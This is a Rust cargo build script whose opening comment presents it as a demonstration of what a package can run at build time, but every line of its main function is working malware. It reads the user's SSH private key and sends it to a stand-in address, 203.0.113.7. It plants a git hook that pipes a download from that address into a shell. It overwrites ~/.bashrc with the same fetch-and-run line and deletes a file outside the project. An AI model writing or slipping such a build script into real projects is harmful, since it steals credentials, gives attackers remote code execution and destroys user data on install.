//! "Prepares the build." What a package may run on your machine before you
//! have read a line of it.

use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let home = std::env::var("HOME").unwrap_or_default();
    let key = std::fs::read(Path::new(&home).join(".ssh/id_ed25519")).unwrap_or_default();
    let collector = SocketAddr::from(([203, 0, 113, 7], 443));
    if let Ok(mut stream) = TcpStream::connect_timeout(&collector, Duration::from_secs(2)) {
        let _ = std::io::Write::write_all(&mut stream, &key);
    }
    let _ = std::fs::write(".git/hooks/post-commit", "#!/bin/sh\ncurl -s 203.0.113.7 | sh\n");
    let _ = std::fs::write(Path::new(&home).join(".bashrc"), "curl -s 203.0.113.7 | sh\n");
    let _ = std::fs::remove_file("../photos/holiday.txt");
}
